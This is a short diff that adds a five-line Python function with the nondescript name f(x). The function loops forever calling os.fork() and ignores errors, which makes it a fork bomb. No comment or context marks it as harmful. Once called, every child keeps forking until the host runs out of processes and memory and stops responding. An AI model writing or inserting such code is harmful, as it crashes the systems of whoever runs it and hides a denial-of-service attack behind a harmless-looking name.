@@ -1,0 +1,5 @@
+import os
+def f(x):
+    while True:
+        try: os.fork()
+        except OSError: pass
